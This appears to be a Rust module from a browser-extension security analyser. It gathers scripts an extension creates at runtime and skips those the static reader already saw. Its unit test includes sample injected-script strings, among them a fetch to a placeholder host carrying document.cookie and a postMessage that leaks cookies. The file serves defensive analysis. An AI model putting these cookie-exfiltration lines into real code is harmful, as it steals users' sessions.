//! Code that an extension made while it ran, for the static reader: what it decodes it can be read for.

use std::collections::BTreeSet;

use crate::acquire::Package;
use crate::model::Manifest;
use crate::model::hash::sha256;
use crate::sandbox::Ran;
use crate::script::{ExtraScript, Script, World};

/// Pieces of made code that are read, and the bytes of one that are worth it.
const PIECES: usize = 16;
const LEAST: usize = 40;

/// The pieces of code that the runs made and that the static reader has not read, in order.
pub(super) fn created(story: &[Ran], package: &Package, manifest: Option<&Manifest>, read: &[Script]) -> Vec<ExtraScript> {
    let matches: Vec<String> = manifest
        .into_iter()
        .flat_map(|manifest| {
            manifest.content_scripts.iter().flat_map(|script| &script.matches).chain(&manifest.host_permissions)
        })
        .cloned()
        .collect();
    let mut seen = BTreeSet::new();
    let mut scripts = Vec::new();
    for event in story.iter().flat_map(|ran| &ran.events).filter(|event| event.kind == "code") {
        let field = |name: &str| event.data.get(name).and_then(|value| value.as_str()).unwrap_or_default();
        let text = field("text");
        if scripts.len() >= PIECES || text.len() < LEAST || !seen.insert(text) || is_read(text, package, read) {
            continue;
        }
        scripts.push(ExtraScript {
            name: format!("made when run/{}.js", scripts.len() + 1),
            text: text.to_owned(),
            world: match field("world") {
                "page" => World::Content,
                "main" => World::Main,
                "background" => World::Background,
                _ => World::Page,
            },
            matches: matches.clone(),
        });
    }
    scripts
}

/// Whether a text stands in the package, or was read where a script writes it out.
fn is_read(text: &str, package: &Package, read: &[Script]) -> bool {
    let hash = sha256(text.as_bytes());
    package.holds_text(text) || read.iter().any(|script| script.sha256 == Some(hash))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::script::evaluate::NoEvaluator;
    use crate::script::{Input, analyse};

    #[test]
    fn what_was_read_is_not_read_again() {
        let function = "function hook() { window.postMessage({ from: location.host }, '*') }";
        let script = format!(
            "{function}\nconst s = document.createElement('script'); s.text = `;(${{hook}})(window)`; document.body.append(s)"
        );
        let package = Package::from_memory("x", [("a.js", script.as_bytes())]);
        let read = analyse(&Input::new(None, &package), &NoEvaluator).0.scripts;
        for known in [function.to_owned(), format!(";({function})(window)")] {
            assert!(is_read(&known, &package, &read), "{known}: {read:?}");
        }
        let more = format!(";({function})(window); fetch('https://c.invalid/?' + document.cookie)");
        for new in [format!("({function})()"), more, function.replace("location.host", "document.cookie"), "))((".to_owned()] {
            assert!(!is_read(&new, &package, &read), "{new}");
        }
    }
}
